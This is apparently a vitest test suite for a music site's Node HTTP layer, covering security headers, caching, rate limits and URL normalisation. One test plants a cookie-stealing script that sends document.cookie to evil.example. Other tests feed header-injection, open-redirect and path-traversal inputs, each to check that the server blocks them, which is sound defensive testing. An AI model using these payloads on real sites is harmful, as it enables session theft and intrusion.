import { createHash } from "node:crypto";
import {
  createServer,
  type IncomingHttpHeaders,
  type IncomingMessage,
  type RequestListener,
  request,
  type Server,
} from "node:http";
import type { AddressInfo } from "node:net";
import { brotliDecompressSync, gunzipSync } from "node:zlib";
import { pino } from "pino";
import { afterEach, expect, test, vi } from "vitest";
import { currentRequestId } from "#/contract/request-id.ts";
import { memoryRateLimiter } from "#/server/platform/rate-limits/rate-limiter.ts";
import { pageBudget } from "./pages/page-budget.ts";
import type { SlugIndex } from "./pages/slug-index.ts";
import { securityHeaders } from "./policy/security-headers.ts";
import { type AnsweredRequest, createRequestListener } from "./requests/request-listener.ts";
import { createSite, PURGE_SECRET_HEADER, type Site } from "./site.ts";

const PUBLIC = {
  "content-type": "text/html; charset=utf-8",
  "cache-control": "s-maxage=300, stale-while-revalidate",
};
const PRIVATE = { "content-type": "text/html; charset=utf-8", "cache-control": "private, no-store" };
const siteUrl = new URL("https://music.example");
const running: Server[] = [];

afterEach(() => {
  for (const server of running.splice(0)) {
    server.closeAllConnections();
    server.close();
  }
});

/** Opens the site behind its request listener, with a renderer that the test provides. */
async function open(
  handler: RequestListener,
  {
    files,
    routes,
    slugs,
    mediaOrigins,
    most = 1_500,
    isDatabaseDown,
  }: {
    files?: ReadonlySet<string>;
    routes?: readonly RegExp[];
    slugs?: SlugIndex;
    mediaOrigins?: readonly string[];
    most?: number;
    isDatabaseDown?: () => Promise<boolean>;
  } = {},
) {
  const security = securityHeaders(siteUrl.origin);
  const told: string[] = [];
  const site: Site = createSite({
    ...{ handler, siteUrl, security, purgeSecret: "s".repeat(32) },
    ...(files && { files }),
    ...(routes && { routes }),
    ...(slugs && { slugs }),
    ...(mediaOrigins && { mediaOrigins }),
    ...(isDatabaseDown && { isDatabaseDown }),
    report: (dropped) => void told.push(...dropped),
  });
  const lines: string[] = [];
  const answered: AnsweredRequest[] = [];
  const log = pino({ level: "info" }, { write: (line: string) => void lines.push(line) });
  const server = createServer(
    createRequestListener({
      api: async (_request, response) => void response.writeHead(200).end("api"),
      site,
      siteUrl,
      trustedProxies: 0,
      siteSecret: "s".repeat(32),
      budget: pageBudget(memoryRateLimiter(Date.now), most),
      security,
      answered: (one) => answered.push(one),
      log,
    }),
  );
  running.push(server);
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  const get = (path: string, headers: Record<string, string> = {}, method = "GET") =>
    new Promise<{ status: number; headers: IncomingHttpHeaders; body: Buffer }>((resolve, reject) => {
      const sent = request({ host: "127.0.0.1", port, path, headers, method }, (answer) => {
        const chunks: Buffer[] = [];
        answer.on("data", (chunk: Buffer) => chunks.push(chunk));
        answer.on("end", () =>
          resolve({ status: answer.statusCode ?? 0, headers: answer.headers, body: Buffer.concat(chunks) }),
        );
      });
      sent.on("error", reject);
      sent.end();
    });
  return { get, site, lines, told, answered };
}

/** A script as the renderer writes it. */
const OWN = 'self.__next_f.push([1,"a"])';
const page = (script: string, text = "") =>
  `<!doctype html><html><script>${script}</script><p>${text || "word ".repeat(300)}</p></html>`;
const hashOf = (script: string) => `'sha256-${createHash("sha256").update(script).digest("base64")}'`;

test("pages may load sounds and pictures from the media hosts, whether cached or for one visitor", async () => {
  const { get } = await open(
    (incoming, response) => response.writeHead(200, incoming.url === "/en" ? PUBLIC : PRIVATE).end(page(OWN)),
    { mediaOrigins: ["https://media.example"] },
  );
  for (const path of ["/en", "/en/user/cart"]) {
    const policy = String((await get(path)).headers["content-security-policy"]);
    expect(policy, path).toContain("media-src 'self' blob: https://media.example;");
    expect(policy, path).toContain("img-src 'self' data: blob: https://media.example;");
    expect(policy, path).toContain("connect-src 'self' https://media.example;");
  }
});

test("a public page is rendered once, without data of its first visitor, and allows its own scripts", async () => {
  const seen: IncomingHttpHeaders[] = [];
  const { get } = await open((incoming, response) => {
    seen.push(incoming.headers);
    response.writeHead(200, PUBLIC).end(page(OWN));
  });
  const first = await get("/en", {
    cookie: "token=canary",
    authorization: "Bearer canary",
    "accept-language": "fr",
  });
  const second = await get("/en");
  expect(seen).toHaveLength(1);
  expect(JSON.stringify(seen)).not.toMatch(/canary|accept-language/);
  expect(first.body.equals(second.body)).toBe(true);
  expect(second.headers["content-security-policy"]).toContain(`script-src 'self' ${hashOf(OWN)};`);
  expect(second.headers["cache-control"]).toBe("public, max-age=0, s-maxage=60, stale-while-revalidate=300");
});

test("an injected script is removed from a cached page, is not allowed by the policy, and is reported", async () => {
  const injected = "fetch('https://evil.example/'+document.cookie)";
  const { get, told } = await open(
    (_request, response) =>
      void response.writeHead(200, PUBLIC).end(page(OWN, `<img src=x><script>${injected}</script>`)),
  );
  for (let asked = 0; asked < 2; asked += 1) {
    const { headers, body } = await get("/en");
    expect(String(body)).not.toContain("evil.example");
    expect(headers["content-security-policy"]).toContain(`script-src 'self' ${hashOf(OWN)};`);
  }
  expect(told).toEqual([injected]);
});

test("inline styles are allowed by hash only in the offline page", async () => {
  const style = "p{color:red}";
  const { get } = await open(
    (_request, response) => void response.writeHead(200, PUBLIC).end(`<style>${style}</style><p>x</p>`),
  );
  expect((await get("/offline/fr")).headers["content-security-policy"]).toContain(
    `style-src 'self' ${hashOf(style)};`,
  );
  for (const path of ["/fr", "/offline/fr?x", "/fr/user/cart"])
    expect((await get(path)).headers["content-security-policy"]).toContain(
      // WaveSurfer's.
      "style-src 'self' 'sha256-5PP43BnU5yH/rFan+OMuagcJ566hafpOP2E2t5PLZic=';",
    );
});

test("a page is sent as Brotli, gzip or plain, each with its own tag, and not again when unchanged", async () => {
  const html = page(OWN);
  const { get } = await open((_request, response) => void response.writeHead(200, PUBLIC).end(html));
  const [br, gz, plain] = [
    await get("/en", { "accept-encoding": "gzip, br" }),
    await get("/en", { "accept-encoding": "gzip" }),
    await get("/en"),
  ];
  expect(brotliDecompressSync(br.body).toString()).toBe(html);
  expect(gunzipSync(gz.body).toString()).toBe(html);
  expect(plain.body.toString()).toBe(html);
  expect(new Set([br, gz, plain].map(({ headers }) => headers.etag)).size).toBe(3);
  expect(br.headers.vary).toContain("Accept-Encoding");
  const again = await get("/en", { "accept-encoding": "br", "if-none-match": br.headers.etag ?? "" });
  expect([again.status, again.body.length]).toEqual([304, 0]);
  expect(again.headers["content-security-policy"]).toBe(br.headers["content-security-policy"]);
});

test.each([
  ["kept for everyone", PUBLIC],
  ["made for one visitor", PRIVATE],
])("the scripts of a page %s come after its text, and its policy allows their loader", async (_, head) => {
  const { get } = await open((incoming, response) => {
    const given = /nonce-(\w+)/.exec(String(incoming.headers["content-security-policy"]))?.[1];
    const nonce = given ? ` nonce="${given}"` : "";
    const script = `<script src="/_next/static/chunks/a.js" async=""${nonce}></script>`;
    response.writeHead(200, head).end(`<html><head>${script}</head><body><p>L’été</p></body></html>`);
  });
  const { headers, body } = await get("/fr");
  const [, mark = "", loader = ""] =
    /^<html><head><\/head><body><p>L’été<\/p><script([^>]*)>(.+)<\/script><\/body><\/html>$/.exec(
      String(body),
    ) ?? [];
  expect(loader).toContain('["/_next/static/chunks/a.js"]');
  const nonce = /nonce="(\w+)"/.exec(mark)?.[1];
  expect(nonce !== undefined).toBe(head === PRIVATE);
  expect(headers["content-security-policy"]).toContain(nonce ? `'nonce-${nonce}'` : hashOf(loader));
});

test("a private page is rendered for each visitor, with its own nonce", async () => {
  const { get } = await open((incoming, response) => {
    const nonce = /nonce-(\w+)/.exec(String(incoming.headers["content-security-policy"]))?.[1];
    response
      .writeHead(200, PRIVATE)
      .end(`<script nonce="${nonce}">x()</script>${incoming.headers.cookie ?? ""}`);
  });
  const [a, b] = [await get("/fr/user/cart", { cookie: "A" }), await get("/fr/user/cart", { cookie: "B" })];
  expect([a.body.toString().at(-1), b.body.toString().at(-1)]).toEqual(["A", "B"]);
  const policies = [a, b].map(({ headers }) => String(headers["content-security-policy"]));
  expect(policies[0]).toMatch(/script-src 'self' 'nonce-\w{32}';/);
  expect(policies[0]).not.toBe(policies[1]);
  expect(a.headers.etag).toBeUndefined();
});

test.each([
  [200, PUBLIC],
  [200, PRIVATE],
  [307, { location: "/fr" }],
  [404, PRIVATE],
  [500, PRIVATE],
])("every answer with status %i has the security headers and a request id", async (status, headers) => {
  const { get } = await open((_request, response) => void response.writeHead(status, headers).end(page(OWN)));
  const answer = await get("/en/x", { "x-request-id": "given-request-1" });
  expect(answer.status).toBe(status);
  expect(answer.headers).toMatchObject({
    "x-content-type-options": "nosniff",
    "x-frame-options": "deny",
    "referrer-policy": "no-referrer",
    "strict-transport-security": expect.stringContaining("max-age="),
    "x-request-id": "given-request-1",
  });
  if (headers !== undefined && "content-type" in headers) {
    expect(answer.headers["content-security-policy"]).toContain("object-src 'none'");
  }
  expect(answer.headers["x-powered-by"]).toBeUndefined();
});

test("a failing renderer gives a plain 500 without internal details", async () => {
  const { get, lines } = await open(() => {
    throw new Error("secret detail at /home/x.ts:3");
  });
  const answer = await get("/en/x");
  expect(answer.status).toBe(500);
  expect(answer.body.toString()).not.toMatch(/secret|\/home/);
  expect(answer.headers["x-request-id"]).toBeTruthy();
  expect(lines.join("")).toContain(String(answer.headers["x-request-id"]));
});

test("a page that cannot be rendered without the database is a 503 in its language", async () => {
  let isDown = true;
  const { get } = await open((_request, response) => void response.writeHead(500).end("inside"), {
    isDatabaseDown: async () => isDown,
  });
  const reader = { accept: "text/html" };
  const french = await get("/fr/albums", reader);
  expect([french.status, french.headers["retry-after"]]).toEqual([503, "5"]);
  expect(String(french.body)).toContain("Le site est momentanément indisponible");
  expect(french.headers["x-content-type-options"]).toBe("nosniff");
  expect(String((await get("/en/albums", reader)).body)).toContain("The site is away for a moment");
  isDown = false;
  expect((await get("/en/albums", reader)).status).toBe(500);
});

test("the start page follows the visitor's cookie, so no shared cache may keep it", async () => {
  const { get } = await open((incoming, response) => {
    response.writeHead(200, PUBLIC).end(page(OWN, incoming.headers.cookie ?? "none"));
  });
  const [en, fr] = [await get("/", { cookie: "RFI_LOCALE_COOKIE=en" }), await get("/")];
  expect([en, fr].map(({ headers }) => headers["cache-control"])).toEqual([
    "private, no-cache",
    "private, no-cache",
  ]);
  expect(en.body.toString()).toContain("RFI_LOCALE_COOKIE=en");
  expect(fr.body.toString()).toContain("none");
});

test("a part of a page is cached separately from the page", async () => {
  const { get } = await open((incoming, response) => {
    const type = incoming.headers.rsc ? "text/x-component" : "text/html; charset=utf-8";
    response.writeHead(200, { ...PUBLIC, "content-type": type }).end(incoming.headers.rsc ? "part" : "page");
  });
  expect((await get("/en")).body.toString()).toBe("page");
  expect((await get("/en", { rsc: "1" })).body.toString()).toBe("part");
  expect((await get("/en")).body.toString()).toBe("page");
});

test("a purge sends the tags with the secret to the site, and the next visitor gets the new page", async () => {
  let text = "old";
  const purged: unknown[] = [];
  const { get, site } = await open((incoming, response) => {
    if (incoming.url !== "/internal/purge") return void response.writeHead(200, PUBLIC).end(page(OWN, text));
    let body = "";
    incoming.on("data", (chunk) => {
      body += chunk;
    });
    incoming.on("end", () => {
      purged.push(incoming.headers[PURGE_SECRET_HEADER], JSON.parse(body));
      response.writeHead(204).end();
    });
  });
  await get("/en");
  text = "new";
  await site.purge(["albums"]);
  expect(purged).toEqual(["s".repeat(32), { tags: ["albums"] }]);
  expect((await get("/en")).body.toString()).toContain("new");
});

test("a purge by another process with the secret renews the pages too, one without it changes nothing", async () => {
  let text = "old";
  const { get } = await open((incoming, response) => {
    if (incoming.url !== "/internal/purge") return void response.writeHead(200, PUBLIC).end(page(OWN, text));
    response.writeHead(incoming.headers[PURGE_SECRET_HEADER] === "right" ? 204 : 404).end();
  });
  await get("/en");
  text = "new";
  await get("/internal/purge", { [PURGE_SECRET_HEADER]: "wrong" }, "POST");
  expect((await get("/en")).body.toString()).toContain("old");
  await get("/internal/purge", { [PURGE_SECRET_HEADER]: "right" }, "POST");
  expect((await get("/en")).body.toString()).toContain("new");
});

test("HEAD has the length of GET and no body", async () => {
  const { get } = await open((_request, response) => void response.writeHead(200, PUBLIC).end(page(OWN)));
  const whole = await get("/en");
  const head = await get("/en", {}, "HEAD");
  expect([head.headers["content-length"], head.body.length]).toEqual([whole.headers["content-length"], 0]);
});

test.each([
  ["TRACE", "/en", 405],
  ["GET", `/${"a".repeat(9_000)}`, 414],
  ["GET", "/media/../api/user/me", 404],
  ["GET", "/media\\..\\x", 404],
])("%s %s is refused with %i", async (method, path, status) => {
  const { get } = await open((_request, response) => void response.writeHead(200).end());
  const answer = await get(path, {}, method);
  expect(answer.status).toBe(status);
  expect(answer.headers).toMatchObject({ "x-content-type-options": "nosniff", "x-frame-options": "deny" });
});

test.each([
  [414, "GET", `/api/tracks?name=${"a".repeat(9_000)}`],
  [400, "GET", "/api/track/%"],
  [405, "TRACE", "/api/tracks"],
])(
  "a refusal with %i before the API is reached still links to its documentation",
  async (status, method, path) => {
    const { get } = await open((_request, response) => void response.writeHead(200).end());
    const answer = await get(path, {}, method);
    expect(answer.status).toBe(status);
    expect(answer.headers.link).toBe(
      '<https://music.example/api/docs.jsonld>; rel="http://www.w3.org/ns/hydra/core#apiDocumentation"',
    );
    expect(answer.headers.vary).toBe("Accept");
  },
);

test("methods such as PROPFIND are passed to the API, and refused for pages", async () => {
  const { get } = await open((_request, response) => void response.writeHead(200).end());
  expect((await get("/api/tracks", {}, "PROPFIND")).body.toString()).toBe("api");
  const page = await get("/en/albums", {}, "PROPFIND");
  expect([page.status, page.headers.allow]).toEqual([405, "GET, HEAD"]);
});

test("a request is one line in the log, with its id, status and time, and without its secrets", async () => {
  const { get, lines } = await open((_request, response) => void response.writeHead(200, PRIVATE).end("x"));
  await get("/en/recherche?q=jane@radio.example&token=canary", {
    cookie: "canary",
    "x-request-id": "request-77",
  });
  // Logged after the answer was sent.
  await vi.waitFor(() => expect(lines).not.toEqual([]), { timeout: 20_000 });
  const entry = JSON.parse(lines[0] ?? "{}");
  expect(entry).toMatchObject({ requestId: "request-77", method: "GET", status: 200, msg: "request" });
  expect(lines.join("")).not.toMatch(/canary|jane/);
});

test("a missing page is the site's whole 404 document in the language of its address, under status 404", async () => {
  const { get } = await open((request, response) => {
    const lost = /^\/(fr|en)\/404$/.exec(request.url ?? "");
    if (lost) response.writeHead(200, PUBLIC).end(`<html lang="${lost[1]}">whole</html>`);
    else response.writeHead(404, PUBLIC).end('<html id="__next_error__"></html>');
  });
  for (const lang of ["fr", "en"]) {
    const missing = await get(`/${lang}/nowhere`);
    expect([missing.status, String(missing.body)]).toEqual([404, `<html lang="${lang}">whole</html>`]);
    expect((await get(`/${lang}/404`)).status).toBe(404);
  }
  const odd = await get("/fr/no%2fwhere");
  expect([odd.status, String(odd.body)]).toEqual([404, '<html lang="fr">whole</html>']);
});

/** Returns a site with only its two 404 documents, which records the requests. */
function nothingButLost(asked: IncomingMessage[] = []): RequestListener {
  return (incoming, response) => {
    asked.push(incoming);
    const document = /^\/(fr|en)\/404$/.exec(incoming.url ?? "")?.[1];
    const spoken = incoming.headers.cookie === "lang=en" ? "en" : "fr";
    const text = document ? `lost, ${document}` : "empty";
    response
      .writeHead(document ? 200 : 404, PUBLIC)
      .end(`<html class="a" lang="${document ?? spoken}">${page(OWN, text)}</html>`);
  };
}

test("addresses that surely do not exist are answered from memory: the 404 page of each language is rendered once", async () => {
  const asked: IncomingMessage[] = [];
  const slugs = { mayBe: () => false, forget: () => undefined };
  const { get, site } = await open(nothingButLost(asked), { files: new Set<string>(), routes: [], slugs });
  for (const lang of ["fr", "en"])
    for (let number = 0; number < 20; number += 1) {
      const answer = await get(`/${lang}/nowhere-${number}?x=${number}`, {
        cookie: `token=canary-${number}`,
      });
      expect([answer.status, String(answer.body)]).toEqual([404, expect.stringContaining(`lost, ${lang}`)]);
    }
  expect(asked.map(({ url }) => url)).toEqual(["/fr/404", "/en/404"]);
  expect(JSON.stringify(asked.map(({ headers }) => headers))).not.toContain("canary");
  expect(site.figures().pages).toBe(2);
});

test("an address that only the renderer knows to be missing is remembered without its page, and its 404 page is rendered once", async () => {
  const asked: IncomingMessage[] = [];
  const { get, site } = await open(nothingButLost(asked), { most: 200 });
  const tags = new Set<string | undefined>();
  for (let number = 0; number < 20; number += 1) {
    const answer = await get(`/en/nowhere-${number}`);
    expect([answer.status, String(answer.body)]).toEqual([404, expect.stringContaining("lost, en")]);
    tags.add(answer.headers.etag);
  }
  expect(asked.filter(({ url }) => url === "/en/404")).toHaveLength(1);
  expect([tags.size, site.figures().pages]).toEqual([1, 1]);
  // Forty of these may be rendered for one visitor in five minutes: a reload does not count.
  for (let again = 0; again < 50; again += 1) {
    const answer = await get("/en/our-composers/99999");
    expect([answer.status, String(answer.body)]).toEqual([404, expect.stringContaining("lost, en")]);
  }
  expect(asked.filter(({ url }) => url === "/en/our-composers/99999")).toHaveLength(1);
});

test("an address without a language has a 404 page in the visitor's, which shared caches do not store, rendered once", async () => {
  const asked: IncomingMessage[] = [];
  const { get, site } = await open(nothingButLost(asked));
  for (let number = 0; number < 5; number += 1)
    for (const [cookie, lang] of [
      ["lang=en", "en"],
      ["lang=fr", "fr"],
    ] as const) {
      const answer = await get(`/de/nowhere-${number}`, { cookie });
      expect([answer.status, String(answer.body)]).toEqual([404, expect.stringContaining(`lost, ${lang}`)]);
      expect(answer.headers["cache-control"]).toBe("private, no-cache");
      const head = await get(`/de/nowhere-${number}`, { cookie }, "HEAD");
      expect([head.status, head.headers.etag, head.body.length]).toEqual([404, answer.headers.etag, 0]);
    }
  const documents = asked.filter(({ url }) => url?.endsWith("/404"));
  expect(documents.map(({ url }) => url)).toEqual(["/en/404", "/fr/404"]);
  expect(documents.map(({ headers }) => headers.cookie)).toEqual([undefined, undefined]);
  await site.purge([]).catch(() => undefined);
  await get("/de/nowhere", { cookie: "lang=en" });
  expect(asked.filter(({ url }) => url === "/en/404")).toHaveLength(2);
});

test("the part of a missing page that the router requests is no failure, or it would load a document and end the sound", async () => {
  const { get } = await open(
    ({ headers }, response) => {
      const type = headers.rsc ? { "content-type": "text/x-component" } : {};
      response.writeHead(404, { ...PUBLIC, ...type }).end("0:{}");
    },
    { most: 50 },
  );
  const part = await get("/fr/nowhere", { rsc: "1" });
  expect([part.status, String(part.body)]).toEqual([200, "0:{}"]);
  expect((await get("/fr/nowhere")).status).toBe(404);
  // It is a missing page all the same, of which a visitor may have a fifth as many rendered.
  const statuses = [];
  for (let asked = 0; asked < 20; asked += 1) {
    statuses.push((await get(`/fr/not${asked}`, { rsc: "1" })).status);
  }
  expect(statuses.filter((status) => status === 200)).toHaveLength(8);
  expect(statuses.filter((status) => status === 429)).toHaveLength(12);
});

test("the root varies with a cookie and the browser's languages, other pages do not", async () => {
  const { get } = await open((_request, response) => {
    response.writeHead(200, { ...PUBLIC, vary: "rsc, next-url" }).end("<html></html>");
  });
  for (const root of ["/", "/?utm_source=x"]) {
    expect((await get(root)).headers.vary).toMatch(/^rsc, next-url, Accept-Language, Cookie/);
  }
  expect((await get("/fr")).headers.vary).not.toMatch(/Cookie/);
});

test("a visitor of more than 300 pages of results in five minutes has to wait, except for other pages", async () => {
  const { get } = await open((_request, response) => void response.writeHead(200, PRIVATE).end("x"));
  for (let asked = 0; asked < 300; asked += 1) await get(`/fr/recherche/${asked}`);
  const refused = await get("/en/recherche/more");
  expect(refused.status).toBe(429);
  expect(Number(refused.headers["retry-after"])).toBeGreaterThan(0);
  expect((await get("/en/our-composers?letter=A")).status).toBe(429);
  expect((await get("/en/albums")).status).toBe(200);
});

test("other spellings of a page of results are not rendered", async () => {
  const asked: (string | undefined)[] = [];
  const { get } = await open((incoming, response) => {
    asked.push(incoming.url);
    response.writeHead(200, PRIVATE).end("x");
  });
  const odd = ["/fr/./recherche/x", "/fr/x/../recherche/x", "/de/../fr/recherche/x", "/\\x/fr/recherche/x"];
  for (const path of [...odd, "/fr/../media/images/%00.jpg"]) expect((await get(path)).status).toBe(400);
  const redirected = await get("/fr//%72echerche/x/?page=2");
  expect([redirected.status, redirected.headers.location]).toEqual([308, "/fr/recherche/x?page=2"]);
  expect(asked).toEqual([]);
});

test("a limited number of pages is rendered for a visitor in five minutes; cached ones and files are not counted", async () => {
  const files = new Set(["/favicon.ico", "/_next/static/[lang].js"]);
  const { get } = await open(
    (incoming, response) =>
      void response.writeHead(200, incoming.url === "/fr/kept" ? PUBLIC : PRIVATE).end(page(OWN)),
    { files, most: 20 },
  );
  await get("/fr/kept");
  for (let asked = 0; asked < 50; asked += 1) {
    expect((await get("/fr/kept")).status).toBe(200);
    expect((await get(`/favicon.ico?${asked}`)).status).toBe(200);
    expect((await get("/_next/static/%5Blang%5D.js")).status).toBe(200);
  }
  for (let asked = 1; asked < 20; asked += 1) expect((await get(`/fr/user/${asked}`)).status).toBe(200);
  const refused = await get("/fr/user/more");
  expect(refused.status).toBe(429);
  expect(Number(refused.headers["retry-after"])).toBeGreaterThan(0);
  expect((await get("/fr/kept")).status).toBe(200);
});

test.each([
  ["fr", "Trop de pages demandées", /Réessayez dans (?:une minute|\d+ minutes)\./],
  ["en", "Too many pages asked for", /Try again in (?:a minute|\d+ minutes)\./],
])(
  "in %s a page tells people that they have requested too many; programs get the API’s error",
  async (lang, title, wait) => {
    const { get } = await open((_request, response) => void response.writeHead(200, PRIVATE).end(page(OWN)), {
      most: 1,
    });
    await get(`/${lang}/user/start`);
    const BROWSER = { accept: "text/html,application/xhtml+xml,*/*;q=0.8" };
    const { status, headers, body } = await get(`/${lang}/user/more`, BROWSER);
    const html = body.toString();
    expect([status, headers["content-type"]]).toEqual([429, "text/html; charset=utf-8"]);
    expect(headers["cache-control"]).toBe("private, no-store");
    expect(headers["x-content-type-options"]).toBe("nosniff");
    expect(Number(headers["retry-after"])).toBeGreaterThan(0);
    expect(html).toContain(`<html lang="${lang}">`);
    expect(html).toContain(`<h1>${title}</h1>`);
    expect(html).toMatch(wait);
    const [, style = ""] = /<style>(.*)<\/style>/s.exec(html) ?? [];
    expect(headers["content-security-policy"]).toContain(`style-src ${hashOf(style)};`);
    const others: Record<string, string>[] = [{}, { accept: "*/*" }, { ...BROWSER, rsc: "1" }];
    for (const other of others) {
      const refused = await get(`/${lang}/user/more`, other);
      expect([refused.status, refused.headers["content-type"]]).toEqual([
        429,
        "application/ld+json; charset=utf-8",
      ]);
    }
    expect((await get(`/${lang}/user/more`, BROWSER, "HEAD")).body).toHaveLength(0);
  },
);

test("a visitor of missing pages has to wait after a fifth as many", async () => {
  let drawn = 0;
  const { get } = await open(
    (incoming, response) => {
      drawn += 1;
      const isPage = incoming.url?.startsWith("/fr/is") || incoming.url === "/fr/404";
      response.writeHead(isPage ? 200 : 404, PRIVATE).end(page(OWN));
    },
    { most: 50 },
  );
  for (let asked = 0; asked < 20; asked += 1) expect((await get(`/fr/is${asked}`)).status).toBe(200);
  const statuses = [];
  for (let asked = 0; asked < 30; asked += 1) statuses.push((await get(`/fr/not${asked}`)).status);
  expect(statuses.filter((status) => status === 404)).toHaveLength(10);
  expect(statuses.filter((status) => status === 429)).toHaveLength(20);
  expect(drawn).toBeLessThan(60);
});

test("a file that is not in the build is a 404 from memory", async () => {
  const asked: (string | undefined)[] = [];
  const { get } = await open(
    (incoming, response) => {
      asked.push(incoming.url);
      response.writeHead(incoming.url === "/fr/404" ? 200 : 500, PUBLIC).end(page(OWN, "lost"));
    },
    { files: new Set<string>() },
  );
  for (let name = 0; name < 20; name += 1) {
    const answer = await get(`/_next/static/chunks/${name}.js`);
    expect([answer.status, answer.body.toString().includes("lost")]).toEqual([404, true]);
  }
  expect(asked).toEqual(["/fr/404"]);
});

test.each([
  ["GET", "/fr/recherche/100%", "/fr/recherche/100%25"],
  ["HEAD", "/en/recherche/100%25%?order=a%", "/en/recherche/100%25%25?order=a%25"],
  ["GET", "/recherche/%C3%A9t%E9%20%F0%9F%8E%B5%", "/recherche/%C3%A9t%25E9%20%F0%9F%8E%B5%25"],
  ["GET", "/fr/%c0%ae%c0%ae/%ed%a0%80", "/fr/%25c0%25ae%25c0%25ae/%25ed%25a0%2580"],
  ["GET", "/fr/%0d%0aset-cookie:a=b%", "/fr/%0d%0aset-cookie:a=b%25"],
  ["GET", "//evil.example/%", "/evil.example/%25"],
  ["GET", "/\\/evil.example/%", "/evil.example/%25"],
  ["GET", "/apis/%", "/apis/%25"],
])("%s %s redirects to the intended address, on this site", async (method, path, location) => {
  const { get } = await open((_request, response) => void response.writeHead(200, PUBLIC).end("x"));
  const answer = await get(path, {}, method);
  expect([answer.status, answer.headers.location]).toEqual([308, location]);
  expect(answer.headers["x-content-type-options"]).toBe("nosniff");
  expect(new URL(location, siteUrl).origin).toBe(siteUrl.origin);
  expect((await get(location, {}, method)).status).toBe(200);
});

test.each([
  ["GET", "/api/track/%", 400],
  ["GET", "/api?q=%ff", 400],
  ["GET", "/authentification/%", 400],
  ["GET", "/media/%", 404],
  ["POST", "/fr/recherche/100%", 400],
  ["GET", "http://evil.example/%", 400],
])("%s %s cannot be parsed: %i", async (method, path, status) => {
  const { get } = await open((_request, response) => void response.writeHead(200, PUBLIC).end("x"));
  const answer = await get(path, {}, method);
  expect([answer.status, answer.headers.location]).toEqual([status, undefined]);
  expect(JSON.parse(answer.body.toString())).toBeTypeOf("object");
});

test("a target that is too long after its repair is refused", async () => {
  const { get } = await open((_request, response) => void response.writeHead(200, PUBLIC).end("x"));
  const answer = await get(`/fr/${"%".repeat(4_000)}`);
  expect([answer.status, answer.headers.location]).toEqual([414, undefined]);
});

test("only the embedded player may be framed by another site", async () => {
  const { get } = await open((_request, response) => void response.writeHead(200, PUBLIC).end(page(OWN)));
  for (const path of ["/embed/fr/delta", "/embed/en/delta?autoplay=1"]) {
    const { headers } = await get(path);
    expect(headers["content-security-policy"]).toContain("frame-ancestors *;");
    expect(headers["x-frame-options"]).toBeUndefined();
    expect(headers["x-content-type-options"]).toBe("nosniff");
  }
  for (const path of ["/fr", "/fr/embed/delta", "/embed/fr/a/b", "/embed/de/delta"]) {
    const { headers } = await get(path);
    expect(headers["content-security-policy"]).toContain("frame-ancestors 'none';");
    expect(headers["x-frame-options"]).toBe("deny");
  }
  const odd = await get("/embed/fr/%2e%2e/user");
  expect([odd.status, odd.headers["x-frame-options"]]).toEqual([400, "deny"]);
});

test("a missing file is answered with the site's 404 document, in the default language if it has none", async () => {
  const { get } = await open((incoming, response) => {
    const isDocument = /^\/(fr|en)\/404$/.test(incoming.url ?? "");
    response.writeHead(isDocument ? 200 : 404, PUBLIC).end(page(OWN, `lost ${incoming.url}`));
  });
  for (const [path, lang] of [
    ["/wp-login.php", "fr"],
    ["/en/old-page.html", "en"],
  ] as const) {
    const answer = await get(path);
    expect(answer.status).toBe(404);
    expect(answer.body.toString()).toContain(`lost /${lang}/404`);
  }
});

test("API calls while a page is rendered have the id of its request, and of no other", async () => {
  const ids: (string | undefined)[] = [];
  const { get, lines } = await open(async (incoming, response) => {
    await new Promise((resolve) => setImmediate(resolve));
    ids.push(`${incoming.url} ${currentRequestId()}`);
    response.writeHead(200, PUBLIC).end(page(OWN));
  });
  await Promise.all(
    ["/en/a", "/en/b"].map((path) =>
      get(path, { "x-request-id": `asked-for${path.slice(3).replace("/", "-")}` }),
    ),
  );
  expect(ids.toSorted()).toEqual(["/en/a asked-for-a", "/en/b asked-for-b"]);
  expect(currentRequestId()).toBeUndefined();
  const logged = lines.map((line) => JSON.parse(line)).map(({ requestId, path }) => `${path} ${requestId}`);
  expect(logged.toSorted()).toEqual(ids.toSorted());
});

test("every answer is reported to the metrics: from memory, refused, of the API", async () => {
  const { get, answered } = await open(
    (_incoming, response) => void response.writeHead(200, PUBLIC).end(page(OWN)),
  );
  await get("/en");
  await get("/en");
  await get("/api/x?y=1");
  await get("/en/%00", {}, "PUT");
  await vi.waitFor(() => expect(answered).toHaveLength(4));
  expect(
    answered.map(({ method, target, status, isAborted }) => [method, target, status, isAborted]),
  ).toEqual([
    ["GET", "/en", 200, false],
    ["GET", "/en", 200, false],
    ["GET", "/api/x?y=1", 200, false],
    ["PUT", "/en/%00", 400, false],
  ]);
  for (const { milliseconds } of answered) expect(milliseconds).toBeGreaterThan(0);
});
